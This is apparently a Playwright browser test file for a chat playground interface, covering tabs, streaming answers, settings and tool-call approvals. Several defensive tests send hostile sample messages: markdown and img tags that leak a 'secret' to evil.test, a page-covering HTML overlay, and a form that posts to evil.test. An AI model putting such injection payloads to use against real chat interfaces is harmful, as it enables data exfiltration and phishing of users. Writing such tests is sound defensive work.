"""The page, as a visitor uses it."""

import json
import re
from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import APIResponse, Locator, Page, Response, Route, expect

from playground.ui.wiring import SHOW

pytestmark = pytest.mark.browser


def about(*words: str) -> Callable[[Response], bool]:
    """Whether an answer is to a request with these words: then what it asked for is done."""
    return lambda reply: all(word in (reply.request.post_data or "") for word in words)


def pick_provider(page: Page) -> None:
    """Picks OpenAI, which has no key here."""
    with page.expect_response(about('"provider":"openai"')):
        page.get_by_role("radio", name="OpenAI").click()


def type_model(page: Page, name: str) -> None:
    """Types a model of the provider that is picked; its answer is not waited for."""
    field = page.locator("#model input")
    field.fill(name)
    field.press("Enter")


def pick_model(page: Page, name: str) -> None:
    """Types a model of the provider that is picked."""
    with page.expect_response(about(json.dumps(name)[1:])):  # before it, a listed one has its provider
        type_model(page, name)


def say(page: Page, text: str) -> None:
    box = page.locator("#box textarea")
    box.fill(text)
    box.press("Enter")


def chat(page: Page) -> Locator:
    return page.locator("#chat")


def finished(page: Page, count: int = 1) -> None:
    expect(page.locator("#chat .metrics")).to_have_count(count)


def test_enter_sends_and_shift_enter_makes_a_line(page: Page) -> None:
    box = page.locator("#box textarea")
    box.fill("one")
    box.press("Shift+Enter")
    box.type("two")
    expect(box).to_have_value("one\ntwo")
    box.press("Enter")
    finished(page)
    expect(box).to_have_value("")
    expect(box).to_be_focused()


def test_an_agent_is_picked_and_its_example_sent_by_a_click(page: Page) -> None:
    page.locator("#agent input").click()
    page.get_by_role("option", name="Assistant").click()
    expect(page.locator("#chat .placeholder h2")).to_have_text("Assistant")
    page.locator("#chat .example").first.click()
    finished(page)


def test_a_reload_in_the_middle_of_an_answer_goes_on(page: Page) -> None:
    pick_model(page, "words-9000@40")
    say(page, "go")
    expect(chat(page)).to_contain_text("w9 ")
    tab = page.get_by_role("tab", selected=True).inner_text()
    page.reload()
    expect(chat(page)).to_contain_text("w20 ")
    expect(page.get_by_role("tab", selected=True)).to_have_text(tab)
    expect(page.locator("#stop")).to_be_visible()
    newest = int(re.findall(r"\bw(\d+)", chat(page).inner_text())[-1])
    expect(chat(page)).to_contain_text(f"w{newest + 20} ")
    page.locator("#stop").click()
    finished(page)


def test_a_second_window_sees_the_same_live_run(page: Page) -> None:
    pick_model(page, "words-200@40")
    say(page, "go")
    expect(chat(page)).to_contain_text("w9 ")
    other = page.context.new_page()
    other.goto(page.url)
    expect(other.locator("#chat")).to_contain_text("w30 ")
    finished(page)
    finished(other)
    assert other.locator("#chat .bot-row").all_inner_texts() == page.locator("#chat .bot-row").all_inner_texts()


def test_escape_stops_the_answer(page: Page) -> None:
    pick_model(page, "words-9000@20")
    say(page, "go")
    expect(chat(page)).to_contain_text("w3 ")
    page.keyboard.press("Escape")
    expect(page.locator("#chat .badge")).to_have_text("Stopped")
    expect(page.locator("#stop")).to_be_hidden()


def test_reasoning_and_tools_fold_under_their_titles(page: Page) -> None:
    pick_model(page, 'tool:stamp:{"text": "paper"}')
    say(page, "stamp it")
    finished(page)
    title = page.locator("#chat .thought-group > .title").first
    expect(title).to_contain_text("stamp")
    expect(chat(page)).not_to_contain_text("Arguments")
    title.click()
    expect(page.locator("#chat .thought-group .content")).to_contain_text("stamped paper")


def test_a_failure_is_an_entry_with_a_way_on(page: Page) -> None:
    pick_model(page, "status-429")
    say(page, "go")
    expect(page.locator("#chat .note.danger")).to_be_visible()
    expect(chat(page)).not_to_contain_text("Traceback")
    pick_model(page, "echo")
    page.get_by_role("button", name="Try again").click()
    expect(page.locator("#chat .note.danger")).to_have_count(0)
    expect(page.locator("#chat .bot-row").first).to_contain_text("go")


def test_an_edit_makes_a_version_and_the_versions_can_be_switched(page: Page) -> None:
    say(page, "one")
    finished(page)
    question = page.locator("#chat .message-buttons-right")
    question.hover()
    question.get_by_role("button", name="Edit").click()
    page.locator("#chat .edit-textarea").fill("two")
    page.get_by_role("button", name="Submit").click()
    expect(page.locator("#chat .user-row")).to_have_text(re.compile("two"))
    finished(page)  # while it answers, no other version can be shown
    versions = page.locator("#versions input")
    versions.click()
    page.get_by_role("option").last.click()
    expect(page.locator("#chat .user-row")).to_have_text(re.compile("one"))


def test_tabs_are_added_picked_renamed_closed_and_brought_back_by_keyboard(page: Page) -> None:
    tabs = page.get_by_role("tab")
    page.keyboard.press("Alt+n")
    expect(tabs).to_have_count(2)
    expect(tabs.nth(1)).to_have_attribute("aria-selected", "true")
    tabs.nth(1).focus()
    page.keyboard.press("Home")
    expect(tabs.nth(0)).to_have_attribute("aria-selected", "true")
    expect(tabs.nth(0)).to_be_focused()
    page.keyboard.press("ArrowLeft")
    expect(tabs.nth(1)).to_be_focused()
    page.keyboard.press("F2")
    page.get_by_label("Title of the session").fill("${1+1} <b>x</b>")
    with page.expect_response(about('"title":"${1')):
        page.keyboard.press("Enter")
    expect(tabs.nth(1)).to_have_text("${1+1} <b>x</b>")
    page.reload()
    expect(page.get_by_role("tab", selected=True)).to_have_text("${1+1} <b>x</b>")
    page.get_by_role("tab", selected=True).focus()
    page.keyboard.press("Delete")
    expect(tabs).to_have_count(1)
    page.keyboard.press("Alt+Shift+t")
    expect(page.get_by_role("tab", selected=True)).to_have_text("${1+1} <b>x</b>")


TITLES = """() => {
  globalThis.titles = [];
  const strip = document.querySelector('.tabs');
  new MutationObserver(() => titles.push(strip.querySelector('[role=tab]').textContent))
    .observe(strip, { childList: true });
}"""


SHOWN = """() => {
  globalThis.shown = [];
  const strip = document.querySelector('.tabs');
  new MutationObserver(() => shown.push(strip.querySelector('[aria-selected=true]').textContent))
    .observe(strip, { childList: true });
}"""


def test_an_answer_that_was_overtaken_does_not_bring_an_old_title_back(page: Page) -> None:
    tabs = page.get_by_role("tab")
    page.keyboard.press("Alt+n")
    expect(tabs).to_have_count(2)
    held: list[Route] = []
    answers: list[APIResponse] = []

    def hold(route: Route) -> None:
        if held or '"tab":' not in (route.request.post_data or ""):
            route.continue_()
        else:
            held.append(route)  # first: the next request may come while this one is fetched
            answers.append(route.fetch())

    page.route("**/gradio_api/**", hold)
    tabs.nth(0).click()
    while not answers:  # it is to tell the old title
        page.wait_for_timeout(20)
    tabs.nth(0).focus()
    page.keyboard.press("F2")
    page.get_by_label("Title of the session").fill("Mine")
    with page.expect_response(about('"title":"Mine')):
        page.keyboard.press("Enter")
    expect(tabs.nth(0)).to_have_text("Mine")
    page.evaluate(TITLES)
    (late,), (answer,) = held, answers
    assert "Mine" not in answer.text()
    with page.expect_request("**/queue/join*"):  # the page has taken the answer in, and watches the tab
        late.fulfill(response=answer)
    page.wait_for_function("titles.length > 0")
    assert set(page.evaluate("titles")) == {"Mine"}


def test_the_answer_to_an_earlier_pick_does_not_bring_its_tab_back(page: Page) -> None:
    tabs = page.get_by_role("tab")
    page.keyboard.press("Alt+n")
    expect(tabs).to_have_count(2)
    held: list[Route] = []

    def hold(route: Route) -> None:
        if held or '"tab":' not in (route.request.post_data or ""):
            route.continue_()
        else:
            held.append(route)

    page.route("**/gradio_api/**", hold)
    tabs.nth(0).click()
    tabs.nth(1).click()
    tabs.nth(1).focus()
    page.keyboard.press("F2")
    page.get_by_label("Title of the session").fill("Mine")
    with page.expect_response(about('"title":"Mine')):
        page.keyboard.press("Enter")
    page.evaluate(SHOWN)
    with page.expect_response(about('"tab":')):  # of the second pick, which waits for the first
        held[0].continue_()
    expect(page.locator("#chat .placeholder")).to_be_visible()
    assert set(page.evaluate("shown")) <= {"Mine"}
    expect(page.get_by_role("tab", selected=True)).to_have_text("Mine")


def test_another_tab_can_be_used_while_one_answers(page: Page) -> None:
    pick_model(page, "words-9000@20")
    say(page, "go")
    expect(chat(page)).to_contain_text("w3 ")
    page.locator("button.add").click()
    expect(page.locator("#chat .placeholder")).to_be_visible()
    pick_model(page, "echo")
    say(page, "meanwhile")
    finished(page)
    expect(chat(page)).not_to_contain_text("w3 ")
    page.get_by_role("tab").first.click()
    expect(chat(page)).to_contain_text("w60 ")


def test_settings_belong_to_the_tab_and_are_kept(page: Page) -> None:
    page.locator("button.settings").click()
    page.locator("#instructions textarea").fill("Be brief.")
    with page.expect_response(about('"Be brief."', "0.5")):
        page.locator("#temperature input").fill("0.5")
        page.locator("#temperature input").blur()
    page.keyboard.press("Escape")
    page.reload()
    page.locator("button.settings").click()
    expect(page.locator("#instructions textarea")).to_have_value("Be brief.")
    expect(page.locator("#temperature input")).to_have_value("0.5")


def test_the_history_opens_threads_and_asks_before_it_deletes(page: Page) -> None:
    say(page, "remember me")
    finished(page)
    page.locator("button.add").click()
    expect(page.get_by_role("tab")).to_have_count(2)
    page.locator("button.history").click()
    page.locator("#threads .name").first.click()
    expect(chat(page)).to_contain_text("remember me")
    page.locator("button.history").click()
    page.locator("#threads .bin").first.click()
    page.get_by_role("button", name="Keep").click()
    expect(page.locator("#threads .name")).to_have_count(1)
    page.locator("#threads .bin").first.click()
    page.get_by_role("button", name="Delete", exact=True).click()
    expect(page.locator("#threads .none")).to_be_visible()
    expect(chat(page)).not_to_contain_text("remember me")


def test_a_provider_without_a_key_says_what_is_missing(page: Page) -> None:
    pick_provider(page)
    expect(page.locator("#providers")).to_contain_text("OPENAI_API_KEY")
    say(page, "hello")
    expect(page.get_by_role("alert")).to_contain_text("OPENAI_API_KEY")
    expect(page.locator("#box textarea")).to_have_value("hello")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_narrow_screen_needs_no_sideways_scroll(page: Page, scheme: str) -> None:
    page.set_viewport_size({"width": 390, "height": 844})
    page.goto(f"{page.url}&__theme={scheme}")
    page.locator("#chat .placeholder h2").wait_for()
    expect(page.locator("body")).to_have_class(re.compile("dark") if scheme == "dark" else re.compile("^(?!.*dark)"))
    pick_model(page, "words-200")
    say(page, "x" * 300)
    finished(page)
    assert page.evaluate("document.documentElement.scrollWidth") == 390
    expect(page.locator("#send")).to_be_in_viewport()


def test_nothing_is_asked_of_another_host(page: Page, asked_elsewhere: list[str]) -> None:
    say(page, "![x](https://evil.test/?d=secret) <img src=https://evil.test/2> $$x^2$$")
    finished(page)
    assert not [url for url in asked_elsewhere if "evil.test" not in url]
    loaded = page.evaluate("[...document.images].filter(i => i.src.includes('evil')).map(i => i.naturalWidth)")
    assert not any(loaded)


def test_a_message_cannot_cover_the_page(page: Page) -> None:
    say(page, '<div style="position:fixed;inset:0;z-index:99999;background:red">over everything</div>')
    finished(page)
    covering = page.evaluate("document.elementFromPoint(60, 20).textContent + document.elementFromPoint(720, 860).id")
    assert "over everything" not in covering
    page.locator("button.add").click()
    expect(page.get_by_role("tab")).to_have_count(2)


SUBMIT = """() => new Promise((done) => {
  document.addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective), { once: true });
  const form = document.querySelector('#chat form') ?? document.body.appendChild(document.createElement('form'));
  form.action = 'https://evil.test/f';
  form.requestSubmit();
})"""
"""Answers which rule of the page refused it."""


def test_a_form_in_a_message_sends_nothing_elsewhere(page: Page) -> None:
    say(
        page,
        '<form action="https://evil.test/f"><input name="a" value="b"><button type="submit">Sign in</button></form>',
    )
    finished(page)
    expect(page.locator("#chat .message form button").first).to_be_hidden()
    assert page.evaluate(SUBMIT) == "form-action"
    assert "evil.test" not in page.url


def test_a_picture_is_handed_out_only_where_it_is_news(page: Page) -> None:
    def show(feed: dict[str, str]) -> list[Any]:
        handed: list[Any] = page.evaluate(f"([feed, strip]) => ({SHOW})(feed, strip)", [feed, {"chosen": "tab_a"}])
        return handed

    keep = {"__type__": "update"}
    seen = {"watch": "one", "settled": "[]", "open": '["b"]', "strip": "{}"}
    seen["rest"] = '{"index": {"tab": "tab_a"}, "feedback": [null]}'
    assert show(seen)[0] == {"value": ["b"], "feedback_value": [None], **keep}
    assert show({**seen, "rest": '{"index": {"tab": "tab_b"}}'}) == [keep] * 8
    gone = show({"watch": "two", "strip": '{"value": "elsewhere"}'})
    assert gone == [keep, keep, {"value": "elsewhere", **keep}, *[keep] * 5]
    assert show({}) == [keep] * 8


def test_the_turns_of_a_run_are_looked_at_with_the_keyboard(page: Page) -> None:
    pick_model(page, "tool:lookup:{}")
    say(page, "go")
    finished(page)
    line = page.locator("#chat details.metrics > summary")
    expect(line).to_contain_text("2 turns")
    turns = page.locator("#chat details.metrics li")
    expect(turns.first).not_to_be_visible()
    line.focus()
    page.keyboard.press("Enter")
    expect(turns).to_have_count(2)
    expect(turns.first).to_contain_text("cost unknown")
    expect(turns.first).to_be_in_viewport()
    page.set_viewport_size({"width": 390, "height": 800})
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    page.keyboard.press("Enter")
    expect(turns.first).not_to_be_visible()


def test_models_are_offered_with_their_prices_and_a_typed_one_stays_typed(page: Page) -> None:
    pick_provider(page)
    field = page.locator("#model input")
    expect(field).to_have_value("gpt-6.1-terra · $1 / $5 · 1.05M")
    field.click()
    with page.expect_response(about('gpt-6-luna"')):
        page.get_by_role("option", name="gpt-6-luna · $0.10 / $0.50 · 1.05M").click()
    expect(field).to_have_value("gpt-6-luna · $0.10 / $0.50 · 1.05M")
    pick_model(page, "gpt-of-my-own")
    expect(field).to_have_value("gpt-of-my-own")
    page.reload()
    expect(field).to_have_value("gpt-of-my-own")


def test_a_second_pick_counts_while_the_first_is_under_way(page: Page) -> None:
    field = page.locator("#model input")
    held: list[Route] = []

    def hold(route: Route) -> None:
        if held or '"compatible/one"' not in (route.request.post_data or ""):
            route.continue_()
        else:
            held.append(route)

    page.route("**/gradio_api/run/**", hold)
    type_model(page, "compatible/one")
    pick_model(page, "compatible/two")
    held[0].abort()
    page.reload()
    expect(field).to_have_value("two")


def ask_the_clerk(page: Page, model: str) -> Locator:
    """Has the shipped clerk ask for an approval; the card."""
    page.locator("#agent input").click()
    page.get_by_role("option", name="Clerk", exact=True).click()
    expect(page.locator("#chat .placeholder h2")).to_have_text("Clerk")
    pick_model(page, model)
    say(page, "write it down")
    card = page.get_by_role("region", name="Approvals")
    expect(card).to_be_visible()
    return card


def test_a_call_is_approved_by_keyboard_and_every_window_shows_it(page: Page) -> None:
    card = ask_the_clerk(page, 'tool:add_line:{"text":"<b>milk</b> ${1+1}"}')
    expect(card.get_by_role("heading")).to_have_text("Clerk asks to call add_line")
    expect(card.locator("pre")).to_have_text('{\n  "text": "<b>milk</b> ${1+1}"\n}')
    expect(page.locator("#chat .thought-group > .title")).to_contain_text("waits for your approval")
    page.reload()
    other = page.context.new_page()
    other.goto(page.url)
    for window in (page, other):
        expect(window.get_by_role("button", name="Approve add_line")).to_be_visible()
        expect(window.locator("#stop")).to_be_visible()
    page.locator("#box textarea").focus()
    for _ in range(6):
        page.keyboard.press("Shift+Tab")
        if page.evaluate("document.activeElement.className") == "approve":
            break
    page.keyboard.press("Enter")
    page.keyboard.press("Enter")
    for window in (page, other):
        finished(window)
        expect(chat(window)).to_contain_text("The tool said: 1. milk ${1+1}")
        expect(window.get_by_role("region", name="Approvals")).to_be_hidden()
        expect(window.locator(".toast.problem")).to_have_count(0)
    expect(page.locator("#box textarea")).to_be_focused()


def test_of_several_calls_each_or_all_are_decided_on_a_phone(page: Page) -> None:
    page.set_viewport_size({"width": 390, "height": 800})
    card = ask_the_clerk(page, 'tools:{"add_line":{"text":"milk"},"strike_line":{"number":1}}')
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    card.get_by_label("What a rejection of strike_line tells the agent").fill("Keep it.")
    card.get_by_role("button", name="Reject strike_line").click()
    expect(card.locator(".decided")).to_have_text("Rejected. It goes on when all are decided.")
    expect(card.get_by_role("button", name="Approve all 2")).to_have_count(0)
    card.get_by_role("button", name="Approve add_line").click()
    finished(page)
    expect(chat(page)).to_contain_text("1. milk | Keep it.")
    expect(page.locator("#chat .thought-group > .title").nth(1)).to_contain_text("rejected")


def test_only_the_efforts_that_a_model_takes_can_be_set(page: Page) -> None:
    pick_provider(page)
    pick_model(page, "gpt-5")
    page.locator("button.settings").click()
    page.locator("#effort input").click()
    efforts = page.get_by_role("option")
    expect(efforts).to_have_count(5)
    for effort, shown in zip(efforts.all(), ["default", "Minimal", "Low", "Medium", "High"], strict=True):
        expect(effort).to_contain_text(shown)


TWO = 'tools:{"add_line":{"text":"milk"},"strike_line":{"number":1}}'


def test_a_decision_takes_nothing_from_the_other_cards_and_decides_none_of_them(page: Page) -> None:
    card = ask_the_clerk(page, TWO)
    reason = card.get_by_label("What a rejection of strike_line tells the agent")
    reason.fill("Keep it.")
    reason.press("Escape")
    reason.focus()
    card.get_by_role("button", name="Approve add_line").focus()
    page.keyboard.press("Enter")
    expect(card.locator(".decided")).to_have_text("Approved. It goes on when all are decided.")
    expect(reason).to_have_value("Keep it.")
    expect(card.get_by_label("Arguments of strike_line")).to_be_focused()
    page.keyboard.press("Enter")
    page.keyboard.press("Space")
    card.get_by_role("button", name="Reject strike_line").click()
    finished(page)
    expect(chat(page)).to_contain_text("1. milk | Keep it.")


def test_a_decision_in_another_window_leaves_the_focus_where_one_writes(page: Page) -> None:
    card = ask_the_clerk(page, TWO)
    other = page.context.new_page()
    other.goto(page.url)
    reason = card.get_by_label("What a rejection of strike_line tells the agent")
    reason.click()
    page.keyboard.type("Keep")
    other.get_by_role("button", name="Approve add_line").click()
    expect(card.locator(".decided")).to_be_visible()
    expect(reason).to_be_focused()
    page.keyboard.type(" it.")
    expect(reason).to_have_value("Keep it.")


def test_a_link_opens_a_comparison_once_and_sends_nothing(page: Page, address: str) -> None:
    tabs = page.get_by_role("tab").count()
    page.goto(f"{address}/?compare=compatible/echo,compatible/words-5,nonsense&prompt=Spend%20%3Cb%3E%3F&same_world=1")
    expect(page.locator("#box textarea")).to_have_value("Spend <b>?")
    expect(page.locator("#notes")).to_contain_text("nonsense")
    expect(page.locator("body[data-lanes]")).to_have_count(1)
    expect(page.get_by_role("tab")).to_have_count(tabs + 1)
    expect(page).to_have_url(re.compile(r"\?s=tab_\w+$"))
    page.reload()
    expect(page.locator("body[data-lanes]")).to_have_count(1)
    expect(page.get_by_role("tab")).to_have_count(tabs + 1)
    expect(page.locator("#board .metrics")).to_have_count(0)
